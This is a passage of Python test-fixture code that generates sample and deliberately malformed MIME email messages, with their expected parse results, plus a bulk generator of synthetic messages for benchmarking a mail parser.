    ct = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")]
    add(
        "thread_1",
        _msg(
            _std_headers(
                from_="Bob Brown <bob@example.com>",
                subject="Offsite venue options",
                msgid=t1,
                date=d1,
                received_from="mail.example.com",
            )
            + ct,
            _crlf(body1),
        ),
        description="thread 1/3: the first message",
        subject="Offsite venue options",
        from_name="Bob Brown",
        from_addr="bob@example.com",
        message_id=t1,
        date=d1,
        charset="utf-8",
        text_snippet="which venue do you prefer for the offsite",
    )
    add(
        "thread_2",
        _msg(
            _std_headers(
                from_=f"{RECIPIENT_NAME} <{RECIPIENT}>",
                to="Bob Brown <bob@example.com>",
                subject="Re: Offsite venue options",
                msgid=t2,
                date=d2,
                extra=[("In-Reply-To", t1), ("References", t1), ("User-Agent", "ExampleMail/3.2")],
                received_from=None,
            )
            + ct,
            _crlf(body2),
        ),
        description="thread 2/3: our reply, meant for the Sent folder",
        folder="Sent",
        subject="Re: Offsite venue options",
        from_name=RECIPIENT_NAME,
        from_addr=RECIPIENT,
        to=["bob@example.com"],
        message_id=t2,
        in_reply_to=t1,
        references=[t1],
        date=d2,
        charset="utf-8",
        text_snippet="Lisbon, please - easier flights for everyone.",
    )
    add(
        "thread_3",
        _msg(
            _std_headers(
                from_="Bob Brown <bob@example.com>",
                subject="Re: Offsite venue options",
                msgid=t3,
                date=d3,
                extra=[("In-Reply-To", t2), ("References", f"{t1}\r\n {t2}")],
                received_from="mail.example.com",
            )
            + ct,
            _crlf(body3),
        ),
        description="thread 3/3: answer to our reply; References folded over two lines",
        subject="Re: Offsite venue options",
        from_name="Bob Brown",
        from_addr="bob@example.com",
        message_id=t3,
        in_reply_to=t2,
        references=[t1, t2],
        date=d3,
        charset="utf-8",
        text_snippet="Great, Lisbon it is.",
    )

    # 10. nested mixed > (alternative > (text, related > (html, img)), pdf) ----
    d = _BASE + timedelta(days=1, hours=3)
    sig = make_png(120, 30, seed=5)
    pdf3 = make_pdf("Signed contract", pages=2, seed=6)
    cid = "part1.06090408.01060107@example.net"
    b_mixed, b_alt, b_rel = (
        "------------mixed010203",
        "------------alt040506",
        "------------rel070809",
    )
    text = "Dana,\n\nthe signed contract is attached. See my signature below.\n\nCarol\n"
    html = (
        "<html><body><p>Dana,</p><p>the signed contract is attached. See my signature below.</p>"
        f'<p>Carol<br><img src="cid:{cid}" alt="signature"></p></body></html>\n'
    )
    related = _multipart(
        b_rel,
        [
            _part(
                [
                    ("Content-Type", "text/html; charset=utf-8"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf(html),
            ),
            _part(
                [
                    ("Content-Type", 'image/png; name="signature.png"'),
                    ("Content-Transfer-Encoding", "base64"),
                    ("Content-ID", f"<{cid}>"),
                    ("Content-Disposition", 'inline; filename="signature.png"'),
                ],
                _b64(sig),
            ),
        ],
    )
    alternative = _multipart(
        b_alt,
        [
            _part(
                [
                    ("Content-Type", "text/plain; charset=utf-8; format=flowed"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf(text),
            ),
            _part([("Content-Type", f'multipart/related;\r\n boundary="{b_rel}"')], related),
        ],
    )
    mixed = _multipart(
        b_mixed,
        [
            _part(
                [("Content-Type", f'multipart/alternative;\r\n boundary="{b_alt}"')], alternative
            ),
            _part(
                [
                    ("Content-Type", 'application/pdf; name="contract-signed.pdf"'),
                    ("Content-Disposition", 'attachment; filename="contract-signed.pdf"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(pdf3),
            ),
        ],
        preamble=b"This is a multi-part message in MIME format." + CRLF,
    )
    add(
        "nested",
        _msg(
            [
                *_std_headers(
                    from_="Carol Clarke <carol@example.net>",
                    subject="Signed contract",
                    msgid="<0a1b2c3d-nested@example.net>",
                    date=d,
                    received_from="mail.example.net",
                    extra=[("User-Agent", "Mozilla Thunderbird")],
                ),
                ("Content-Type", f'multipart/mixed;\r\n boundary="{b_mixed}"'),
            ],
            mixed,
        ),
        description=(
            "multipart/mixed > [multipart/alternative > [text, multipart/related > "
            "[html, inline png]], pdf]"
        ),
        subject="Signed contract",
        from_name="Carol Clarke",
        from_addr="carol@example.net",
        message_id="<0a1b2c3d-nested@example.net>",
        date=d,
        charset="utf-8",
        text_snippet="the signed contract is attached.",
        html_snippet="See my signature below.",
        attachments=[
            {
                "filename": "contract-signed.pdf",
                "content_type": "application/pdf",
                "size": len(pdf3),
            }
        ],
        inline=[
            {
                "content_id": f"<{cid}>",
                "filename": "signature.png",
                "content_type": "image/png",
                "size": len(sig),
            }
        ],
    )

    # 11. forwarded message/rfc822 ---------------------------------------------
    d = _BASE + timedelta(days=1, hours=5)
    inner_date = _BASE - timedelta(days=2)
    b_in = "inner_9f9f"
    inner_pdf = make_pdf("Invoice 2026-0042", pages=1, seed=7)
    inner = _msg(
        [
            ("Date", _date(inner_date)),
            ("From", "Billing <billing@vendor.example.com>"),
            ("To", "Peggy Olsen <peggy@example.org>"),
            ("Subject", "Invoice 2026-0042"),
            ("Message-ID", "<inv-2026-0042@vendor.example.com>"),
            ("MIME-Version", "1.0"),
            ("Content-Type", f'multipart/mixed; boundary="{b_in}"'),
        ],
        _multipart(
            b_in,
            [
                _part(
                    [("Content-Type", "text/plain; charset=us-ascii")],
                    _crlf("Please find invoice 2026-0042 attached. Due in 14 days.\n"),
                ),
                _part(
                    [
                        ("Content-Type", "application/pdf"),
                        ("Content-Disposition", 'attachment; filename="invoice-2026-0042.pdf"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    _b64(inner_pdf),
                ),
            ],
        ),
    )
    b = "fwd_1a2b3c"
    body = _multipart(
        b,
        [
            _part(
                [
                    ("Content-Type", "text/plain; charset=us-ascii"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf("Dana, forwarding the vendor invoice for approval.\n\nPeggy\n"),
            ),
            _part(
                [
                    ("Content-Type", 'message/rfc822; name="Invoice 2026-0042.eml"'),
                    ("Content-Disposition", 'attachment; filename="Invoice 2026-0042.eml"'),
                ],
                inner,
            ),
        ],
    )
    add(
        "forwarded_rfc822",
        _msg(
            [
                *_std_headers(
                    from_="Peggy Olsen <peggy@example.org>",
                    subject="Fwd: Invoice 2026-0042",
                    msgid="<fwd.1a2b3c@example.org>",
                    date=d,
                ),
                ("Content-Type", f'multipart/mixed; boundary="{b}"'),
            ],
            body,
        ),
        description="forward as attachment: message/rfc822 part holding a message with its own PDF",
        subject="Fwd: Invoice 2026-0042",
        from_name="Peggy Olsen",
        from_addr="peggy@example.org",
        message_id="<fwd.1a2b3c@example.org>",
        date=d,
        charset="us-ascii",
        text_snippet="forwarding the vendor invoice for approval.",
        attachments=[
            {
                "filename": "Invoice 2026-0042.eml",
                "content_type": "message/rfc822",
                "size": len(inner),
            }
        ],
        forwarded={
            "subject": "Invoice 2026-0042",
            "from_addr": "billing@vendor.example.com",
            "message_id": "<inv-2026-0042@vendor.example.com>",
            "attachments": [
                {
                    "filename": "invoice-2026-0042.pdf",
                    "content_type": "application/pdf",
                    "size": len(inner_pdf),
                }
            ],
        },
    )

    # 12. broken: invalid base64 -----------------------------------------------
    d = _BASE + timedelta(days=2)
    good = _b64(make_png(16, 16, seed=8)).split(CRLF)
    bad_b64 = CRLF.join(
        [good[0], good[1][:30] + b"!!**$$" + good[1][30:], good[2][:-3], b"====AAAA=", b""]
    )
    b = "brk_b64_01"
    body = _multipart(
        b,
        [
            _part(
                [("Content-Type", "text/plain; charset=us-ascii")], _crlf("The scan is attached.\n")
            ),
            _part(
                [
                    ("Content-Type", 'image/png; name="scan.png"'),
                    ("Content-Disposition", 'attachment; filename="scan.png"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                bad_b64,
            ),
        ],
    )
    add(
        "broken_base64",
        _msg(
            [
                *_std_headers(
                    from_="Scanner <scanner@office.example.com>",
                    subject="Scan 2026-03-05",
                    msgid="<scan.0305@office.example.com>",
                    date=d,
                    received_from="office.example.com",
                ),
                ("Content-Type", f'multipart/mixed; boundary="{b}"'),
            ],
            body,
        ),
        description=(
            "attachment whose base64 has invalid characters, a bad line length and stray padding"
        ),
        subject="Scan 2026-03-05",
        from_name="Scanner",
        from_addr="scanner@office.example.com",
        message_id="<scan.0305@office.example.com>",
        date=d,
        charset="us-ascii",
        text_snippet="The scan is attached.",
        attachments=[{"filename": "scan.png", "content_type": "image/png", "size": None}],
        broken=True,
        defect="invalid base64 in scan.png: decoders must not crash; decoded size is undefined",
    )

    # 13. broken: missing closing boundary (truncated) -------------------------
    d = _BASE + timedelta(days=2, hours=1)
    b = "trunc_42"
    truncated_pdf = _b64(make_pdf("Truncated", pages=1, seed=9))
    body = (
        b"--"
        + b.encode()
        + CRLF
        + _part(
            [("Content-Type", "text/plain; charset=us-ascii")],
            _crlf("Minutes from today's meeting below.\n"),
        )
        + b"--"
        + b.encode()
        + CRLF
        + _part(
            [
                ("Content-Type", "application/pdf"),
                ("Content-Disposition", 'attachment; filename="minutes.pdf"'),
                ("Content-Transfer-Encoding", "base64"),
            ],
            truncated_pdf[: len(truncated_pdf) // 2 // 78 * 78],
        )
    )
    add(
        "broken_missing_boundary",
        _msg(
            [
                *_std_headers(
                    from_="Trent Tanaka <trent@example.com>",
                    subject="Meeting minutes",
                    msgid="<minutes.trunc@example.com>",
                    date=d,
                    received_from="mail.example.com",
                ),
                ("Content-Type", f"multipart/mixed; boundary={b}"),
            ],
            body,
        ),
        description="multipart/mixed cut off in the middle of its second part: no closing boundary",
        subject="Meeting minutes",
        from_name="Trent Tanaka",
        from_addr="trent@example.com",
        message_id="<minutes.trunc@example.com>",
        date=d,
        charset="us-ascii",
        text_snippet="Minutes from today's meeting below.",
        attachments=[{"filename": "minutes.pdf", "content_type": "application/pdf", "size": None}],
        broken=True,
        defect="missing closing boundary; the PDF part is truncated",
    )

    # 14. broken: raw 8-bit (latin-1) bytes in headers --------------------------
    d = _BASE + timedelta(days=2, hours=2)
    subject = "R\u00e9union d'\u00e9quipe \u00e0 14h"
    from_name = "Fran\u00e7ois Dupr\u00e9"
    head = (
        f"Received: {_received('mx.example.test', 'old.example.fr', '198.51.100.7', d, 'Zk9z8')}"
        "\r\n"
        f"Date: {_date(d)}\r\n"
    ).encode() + (
        b"From: "
        + from_name.encode("latin-1")
        + b" <francois@example.fr>\r\n"
        + f"To: {RECIPIENT_NAME} <{RECIPIENT}>\r\n".encode()
        + b"Subject: "
        + subject.encode("latin-1")
        + b"\r\n"
        + b"Message-ID: <raw8bit.1999@example.fr>\r\n"
        + b"MIME-Version: 1.0\r\n"
        + b"Content-Type: text/plain; charset=iso-8859-1\r\n"
        + b"Content-Transfer-Encoding: 8bit\r\n"
    )
    add(
        "broken_8bit_header",
        head + CRLF + _crlf("La r\u00e9union est d\u00e9plac\u00e9e \u00e0 14h.\n", "latin-1"),
        description=(
            "unencoded 8-bit ISO-8859-1 bytes in Subject and From (old mailers); 8bit latin-1 body"
        ),
        subject=subject,
        from_name=from_name,
        from_addr="francois@example.fr",
        message_id="<raw8bit.1999@example.fr>",
        date=d,
        charset="iso-8859-1",
        text_snippet="La r\u00e9union est d\u00e9plac\u00e9e \u00e0 14h.",
        broken=True,
        defect="raw non-UTF-8 header bytes; decode with a latin-1/cp1252 fallback",
        raw_header_bytes=True,
    )

    # 15. broken: no Date, no Message-ID ---------------------------------------
    add(
        "broken_no_date_no_msgid",
        _msg(
            [
                ("From", "monitor@example.com"),
                ("To", RECIPIENT),
                ("Subject", "ALERT disk usage 91% on db-2"),
                ("Content-Type", "text/plain"),
            ],
            _crlf("disk /var/lib/postgresql at 91%\n"),
        ),
        description=(
            "minimal cron/monitoring mail: no Date, no Message-ID, no MIME-Version, bare From"
        ),
        subject="ALERT disk usage 91% on db-2",
        from_addr="monitor@example.com",
        text_snippet="disk /var/lib/postgresql at 91%",
        broken=True,
        defect="no Date and no Message-ID headers (fall back to INTERNALDATE, synthesize an id)",
    )

    # 16. broken: empty body ---------------------------------------------------
    d = _BASE + timedelta(days=2, hours=4)
    add(
        "broken_empty_body",
        _msg(
            [
                *_std_headers(
                    from_="Walter Weber <walter@example.com>",
                    subject="(no subject)",
                    msgid="<empty.0@example.com>",
                    date=d,
                    received_from="mail.example.com",
                ),
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "7bit"),
            ],
            b"",
        ),
        description="headers only: empty body after the blank line",
        subject="(no subject)",
        from_name="Walter Weber",
        from_addr="walter@example.com",
        message_id="<empty.0@example.com>",
        date=d,
        charset="utf-8",
        text_snippet="",
        broken=True,
        defect="empty body",
        empty_body=True,
    )

    # 17. inline text files: named text parts that are not attachments ----------
    d = _BASE + timedelta(days=2, hours=5)
    notes = _crlf("Minutes of the planning call\n1. Budget agreed\n2. Launch moves to May\n")
    agenda = _crlf("<html><body><h1>Agenda</h1><p>Kick-off at 10:00</p></body></html>\n")
    b = "b1_inline_text_7a8b"
    add(
        "inline_text_files",
        _msg(
            [
                *_std_headers(
                    from_="Xavier Apple <xavier@example.org>",
                    subject="Minutes and agenda",
                    msgid="<inline-text.1@example.org>",
                    date=d,
                ),
                ("Content-Type", f'multipart/mixed; boundary="{b}"'),
            ],
            _multipart(
                b,
                [
                    _part(
                        [("Content-Type", "text/plain; charset=us-ascii")],
                        _crlf("Here are the minutes, and the agenda for Monday.\n"),
                    ),
                    # Apple Mail's way: a text file attached inline, with a name.
                    _part(
                        [
                            ("Content-Type", 'text/plain; charset=us-ascii; name="minutes.txt"'),
                            ("Content-Disposition", 'inline; filename="minutes.txt"'),
                            ("Content-Transfer-Encoding", "7bit"),
                        ],
                        notes,
                    ),
                    # No disposition at all, only a name in the Content-Type.
                    _part(
                        [("Content-Type", 'text/html; charset=us-ascii; name="agenda.html"')],
                        agenda,
                    ),
                ],
            ),
        ),
        description=(
            "named text parts that are not attachments (inline / no disposition): shown in "
            "the body and listed among the attachments, as mail clients do"
        ),
        subject="Minutes and agenda",
        from_name="Xavier Apple",
        from_addr="xavier@example.org",
        message_id="<inline-text.1@example.org>",
        date=d,
        charset="us-ascii",
        text_snippet="the agenda for Monday.",
        html_snippet="Kick-off at 10:00",
        attachments=[
            {"filename": "minutes.txt", "content_type": "text/plain", "size": len(notes) - 2},
            {"filename": "agenda.html", "content_type": "text/html", "size": len(agenda) - 2},
        ],
    )
    return samples, expected


_CORPUS, EXPECTED = _build()


def corpus() -> dict[str, bytes]:
    """Named sample messages (see :data:`EXPECTED` for what each one should parse to)."""
    return dict(_CORPUS)


# --------------------------------------------------------------------------
# Bulk generation for benchmarks
# --------------------------------------------------------------------------


@functools.cache
def _paragraph_pool() -> tuple[tuple[int, bytes, bytes], ...]:
    """Pre-wrapped paragraphs: (approximate size, text/plain bytes, HTML bytes)."""
    rng = random.Random(20260303)
    sentences = [_sentence(rng) for _ in range(512)]
    pool = []
    for _ in range(1024):
        joined = " ".join(rng.choices(sentences, k=rng.randint(2, 5)))
        lines = _wrap(joined)
        text = ("\r\n".join(lines) + "\r\n\r\n").encode()
        html = ('<p style="margin:0 0 12px 0">' + "\r\n".join(lines) + "</p>\r\n").encode()
        pool.append((len(text), text, html))
    return tuple(pool)


_SUBJECT_TEMPLATES = (
    "Re: {w} {w2} for next week",
    "{W} {w2} update",
    "Fwd: {W} {w2}",
    "[team] {W} {w2} notes",
    "Your {w} {w2} is ready",
    "Invitation: {W} {w2} review",
    "{W} {w2} - action required",
)
_ATTACHMENT_TYPES = (
    ("application/pdf", "pdf"),
    ("image/jpeg", "jpg"),
    ("image/png", "png"),
    ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    ("application/zip", "zip"),
)
_HTML_HEAD = (
    '<!DOCTYPE html>\r\n<html><head><meta http-equiv="Content-Type" content="text/html; '
    'charset=utf-8">\r\n<style type="text/css">body{margin:0;padding:0}'
    "p{margin:0 0 12px 0;font-family:Helvetica,Arial,sans-serif;font-size:14px;line-height:20px;"
    "color:#333333}.footer{font-size:11px;color:#999999}</style></head>\r\n<body>\r\n"
    '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">'
    '\r\n<tr><td align="center" style="padding:24px 12px">\r\n<table role="presentation" '
    'width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff">'
    '\r\n<tr><td style="padding:24px">\r\n'
)
_HTML_FOOT = (
    '</td></tr>\r\n<tr><td class="footer" style="padding:12px 24px;font-size:11px;'
    'color:#999999">You receive this message because you are a member of the team.<br>\r\n'
    '<a href="https://example.com/settings" style="color:#999999">Notification settings</a>'
    "</td></tr>\r\n</table>\r\n</td></tr>\r\n</table>\r\n</body></html>\r\n"
)


def bulk(
    count: int,
    seed: int = 0,
    *,
    attachment_ratio: float = 0.2,
    text_size: int = 11 * 1024,
    attachment_size: tuple[int, int] = (50 * 1024, 500 * 1024),
) -> Iterator[bytes]:
    """Yield ``count`` realistic messages, deterministic for a given ``seed``.

    About ``1 - attachment_ratio`` of them are multipart/alternative (text +
    HTML) of about ``text_size`` bytes in total; the rest are multipart/mixed with
    one binary attachment of ``attachment_size`` decoded bytes (uniform).
    Message-IDs are unique across counts and seeds.
    """
    rng = random.Random(seed)
    start = datetime(2026, 1, 5, 8, 0, tzinfo=UTC) + timedelta(days=seed % 365)
    when = start
    for i in range(count):
        when += timedelta(seconds=rng.randint(20, 1800))
        first, last = rng.choice(_FIRST), rng.choice(_LAST)
        domain = rng.choice(_DOMAINS)
        sender = f"{first.lower()}.{last.lower()}@{domain}"
        w, w2 = rng.choice(_WORDS[:60]), rng.choice(_WORDS[:60])
        subject = rng.choice(_SUBJECT_TEMPLATES).format(w=w, w2=w2, W=w.capitalize())
        msgid = f"<{when:%Y%m%d%H%M%S}.{seed:x}.{i:x}.{rng.getrandbits(32):08x}@{domain}>"
        has_attachment = rng.random() < attachment_ratio
        tag = f"{seed:x}{i:x}{rng.getrandbits(24):06x}"

        # Bodies: the text part is roughly a third of the alternative, HTML the rest.
        target = int(text_size * rng.uniform(0.85, 1.15))
        budget = max(600, (target - 3000) // 2)
        pool = _paragraph_pool()
        greeting = f"Hi {RECIPIENT_NAME.split()[0]},"
        text_parts = [greeting.encode(), b"\r\n\r\n"]
        html_parts = [_HTML_HEAD.encode(), f"<p>{greeting}</p>\r\n".encode()]
        size = 0
        while size < budget:
            n, text_para, html_para = pool[rng.randrange(len(pool))]
            text_parts.append(text_para)
            html_parts.append(html_para)
            size += n
        text_parts.append(f"Best regards,\r\n{first} {last}\r\n".encode())
        html_parts.append(f"<p>Best regards,<br>\r\n{first} {last}</p>\r\n".encode())
        html_parts.append(_HTML_FOOT.encode())
        text_body = b"".join(text_parts)
        html_body = b"".join(html_parts)

        alt_b = f"alt_{tag}"
        alternative = b"".join(
            (
                b"--",
                alt_b.encode(),
                b"\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit",
                b"\r\n\r\n",
                text_body,
                b"\r\n--",
                alt_b.encode(),
                b"\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 7bit",
                b"\r\n\r\n",
                html_body,
                b"\r\n--",
                alt_b.encode(),
                b"--\r\n",
            )
        )
        hop = when - timedelta(seconds=rng.randint(1, 30))
        headers = (
            f"Return-Path: <{sender}>\r\n"
            f"Delivered-To: {RECIPIENT}\r\n"
            f"Received: from mx{rng.randint(1, 9)}.{domain} "
            f"(mx.{domain} [192.0.2.{rng.randint(1, 254)}])\r\n"
            f"\tby mx.example.test (Postfix) with ESMTPS id {tag.upper()[:12]}\r\n"
            f"\tfor <{RECIPIENT}>; {_date(when)}\r\n"
            f"Received: from [10.{rng.randint(0, 255)}.{rng.randint(0, 255)}."
            f"{rng.randint(1, 254)}] "
            f"by mx{rng.randint(1, 9)}.{domain} with ESMTPSA id {rng.getrandbits(48):012x};\r\n"
            f"\t{_date(hop)}\r\n"
            f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s=s2026;\r\n"
            f"\th=from:to:subject:date:message-id:mime-version:content-type;\r\n"
            f"\tbh={base64.b64encode(rng.randbytes(32)).decode()};\r\n"
            f"\tb={base64.b64encode(rng.randbytes(128)).decode()[:76]}\r\n"
            f"\t {base64.b64encode(rng.randbytes(128)).decode()[:96]}\r\n"
            f"Date: {_date(when)}\r\n"
            f"From: {first} {last} <{sender}>\r\n"
            f"To: {RECIPIENT_NAME} <{RECIPIENT}>\r\n"
            f"Subject: {subject}\r\n"
            f"Message-ID: {msgid}\r\n"
            "MIME-Version: 1.0\r\n"
        )
        if subject.startswith("Re: "):
            parent = f"<{rng.getrandbits(64):016x}@{rng.choice(_DOMAINS)}>"
            headers += f"In-Reply-To: {parent}\r\nReferences: {parent}\r\n"
        if has_attachment:
            ctype, ext = rng.choice(_ATTACHMENT_TYPES)
            size = rng.randint(*attachment_size)
            payload = _b64(rng.randbytes(size))
            mixed_b = f"mix_{tag}"
            filename = f"{w}-{w2}-{i}.{ext}"
            body = b"".join(
                (
                    b"--",
                    mixed_b.encode(),
                    b'\r\nContent-Type: multipart/alternative; boundary="',
                    alt_b.encode(),
                    b'"\r\n\r\n',
                    alternative,
                    b"\r\n--",
                    mixed_b.encode(),
                    f'\r\nContent-Type: {ctype}; name="{filename}"\r\n'
                    f'Content-Disposition: attachment; filename="{filename}"; size={size}\r\n'
                    "Content-Transfer-Encoding: base64\r\n\r\n".encode(),
                    payload,
                    b"--",
                    mixed_b.encode(),
                    b"--\r\n",
                )
            )
            headers += f'Content-Type: multipart/mixed; boundary="{mixed_b}"\r\n'
        else:
            body = alternative
            headers += f'Content-Type: multipart/alternative; boundary="{alt_b}"\r\n'
        yield headers.encode() + b"\r\n" + body
